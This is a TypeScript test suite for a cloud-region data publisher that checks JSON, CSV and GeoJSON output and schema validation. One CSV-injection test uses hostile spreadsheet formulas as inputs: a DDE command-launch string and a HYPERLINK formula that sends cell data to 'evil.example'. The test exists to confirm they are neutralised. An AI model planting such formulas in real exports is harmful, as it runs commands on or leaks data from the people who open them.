import Ajv2020 from 'ajv/dist/2020';
import { describe, expect, it } from 'vitest';
import { event, region, zoneCount } from './fixtures.test-helpers.ts';
import { REGIONS } from './regions.ts';
import { CSV_COLUMNS, toCsv, toGeoJson, toPublishedJson } from './publish.ts';
import { REGIONS_JSON_SCHEMA } from './schema.ts';

const tricky = region({
  id: 'tricky',
  regionId: 'eu-central-1',
  name: 'Germany, "Frankfurt"',
  officialName: undefined,
  zoneCounts: [...zoneCount(2, '2019'), ...zoneCount(3, '2025')],
  events: [
    {
      ...event('opened', '2016-11'),
      note: { en: 'first, in Europe', 'zh-CN': '欧洲首个，“法兰克福”' },
    },
    {
      type: 'expanded',
      date: '2019',
      sources: [{ seed: 'a.txt', quote: 'It said "more"\nzones.' }],
    },
  ],
});

/** A data version, as every published file names its own. */
const V = '2026-12-06';

const validate = new Ajv2020({ strict: true }).compile(REGIONS_JSON_SCHEMA);

describe('published data', () => {
  it('keeps the fields its readers know, in their place and meaning, and adds the new ones after', () => {
    const json = toPublishedJson([region({ id: 'bare' }), tricky], V);
    const [bare, full] = json.regions;
    expect(Object.keys(bare!).slice(0, 10)).toEqual([
      'id',
      'regionId',
      'name',
      'city',
      'country',
      'lat',
      'lon',
      'precision',
      'zones',
      'events',
    ]);
    expect(bare!.regionId).toBeNull();
    expect(bare!.zones).toBeNull();
    expect(full!.zones).toBe(3);
    expect(Object.keys(bare!.events[0]!).slice(0, 4)).toEqual(['type', 'date', 'note', 'sources']);
    expect(bare!.events[0]).toMatchObject({ note: null, certainty: 'on', after: null });
    // The note's English keeps its field and meaning; its Chinese comes beside it, after the old.
    expect(full!.events[0]).toMatchObject({
      note: 'first, in Europe',
      noteZh: '欧洲首个，“法兰克福”',
    });
    expect(Object.keys(full!.events[0]!).at(-1)).toBe('noteZh');
    expect(bare!.zonesNote).toBe('no zone count in this test');
    expect(bare!.zonesNoteZh).toBe('此测试中没有可用区数量');
    expect(full!.zoneCounts.map(({ date, count }) => [date, count])).toEqual([
      ['2019', 2],
      ['2025', 3],
    ]);
  });

  it('writes one CSV row per event with quoting, the new columns after the old', () => {
    const csv = toCsv([tricky], V);
    // Excel reads the Chinese columns as UTF-8 only with the byte-order mark.
    expect(csv.startsWith('\uFEFFid,')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines[0]).toMatch(
      /^id,regionId,name,city,country,lat,lon,precision,zones,type,date,note,sources,/,
    );
    expect(lines[1]).toBe(
      'tricky,eu-central-1,"Germany, ""Frankfurt""",Frankfurt,DE,50.11,8.68,city,3,opened,2016-11,' +
        '"first, in Europe","A report (Example News, 2020-01-01) https://example.org/news",on,,public,,,' +
        '欧洲首个，“法兰克福”,2026-12-06,alibaba,',
    );
    // Another provider's region says whose it is, and its Chinese name the map's translation.
    const peer = {
      ...tricky,
      id: 'aws-x',
      provider: 'aws' as const,
      localNames: { 'zh-CN': '某地' },
    };
    expect(toCsv([peer], V).split('\r\n')[1]!.endsWith(`,${V},aws,某地`)).toBe(true);
    // The quote's newline stays inside one quoted cell, so a CSV reader sees two data rows.
    expect(toCsv([tricky], V).match(/^tricky,/gm)).toHaveLength(2);
    expect(lines.at(-1)).toBe('');
  });

  it('quotes text a spreadsheet would run as a formula, and keeps numbers numbers', () => {
    const hostile = {
      ...tricky,
      name: '@SUM(1+1)*cmd|" /C calc"!A0',
      city: '+Frankfurt',
      lon: -8.68,
      events: [
        {
          ...tricky.events[0]!,
          note: {
            en: '=HYPERLINK("https://evil.example/?"&A1,"Click for sources")',
            'zh-CN': '-1+1',
          },
        },
      ],
    };
    const row = toCsv([hostile], V).split('\r\n')[1]!;
    expect(row).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0","'+Frankfurt",DE,50.11,-8.68,`);
    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click for sources"")",`);
    // The Chinese note, before the version, is quoted the same way.
    expect(row.endsWith(`,"'-1+1",${V},alibaba,`)).toBe(true);
    for (const start of ['-', '\t', '\r']) {
      const cell = toCsv([{ ...tricky, city: `${start}x` }], V)
        .split('\r\n')
        .slice(1)
        .join('\r\n');
      expect(cell).toContain(`,"'${start}x",`);
    }
  });

  it('writes RFC 7946 GeoJSON: one Point per region, longitude first', () => {
    const geojson = toGeoJson(REGIONS, V);
    // Every published file says which version of the data it is.
    expect(geojson.version).toBe(V);
    expect(toPublishedJson(REGIONS, V).version).toBe(V);
    expect(geojson.type).toBe('FeatureCollection');
    expect(geojson.features).toHaveLength(REGIONS.length);
    const paris = geojson.features.find((feature) => feature.id === 'paris')!;
    expect(paris.geometry).toEqual({ type: 'Point', coordinates: [2.35, 48.86] });
    expect(paris.properties.officialName.en).toBe('France (Paris)');
  });
});

describe('the JSON Schema', () => {
  it('accepts the published dataset', () => {
    const valid = validate(JSON.parse(JSON.stringify(toPublishedJson(REGIONS, V))));
    expect(validate.errors ?? []).toEqual([]);
    expect(valid).toBe(true);
  });

  it.each([
    ['a zone count as text', (r: Record<string, unknown>) => (r.zones = '2')],
    ['an unknown kind', (r: Record<string, unknown>) => (r.kind = 'private')],
    ['a missing field', (r: Record<string, unknown>) => delete r.events],
    ['an unknown field', (r: Record<string, unknown>) => (r.colour = 'blue')],
    ['a latitude out of range', (r: Record<string, unknown>) => (r.lat = 91)],
  ])('rejects %s', (_, breakIt) => {
    const json = JSON.parse(JSON.stringify(toPublishedJson(REGIONS, V)));
    breakIt(json.regions[0]);
    expect(validate(json)).toBe(false);
  });
});
